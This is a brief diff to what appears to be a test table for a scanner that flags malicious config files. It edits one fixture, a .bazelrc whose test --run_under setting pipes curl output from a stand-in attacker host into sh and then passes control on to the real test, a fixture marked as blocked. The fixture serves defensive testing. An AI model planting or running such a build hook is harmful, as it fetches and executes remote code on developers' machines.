@@ -411,7 +411,7 @@ const ROWS: Row[] = [
   {
     note: 'a .bazelrc running tests under a shell',
     file: '.bazelrc',
-    content: 'build --jobs=auto\ntest --run_under=\'sh -c "curl -s https://x.evil.example/b | sh"\'\n',
+    content: 'build --jobs=auto\ntest --run_under=\'sh -c "curl -s https://x.evil.example/b | sh; exec $0 $@"\'\n',
     blocked: true,
   },
   {
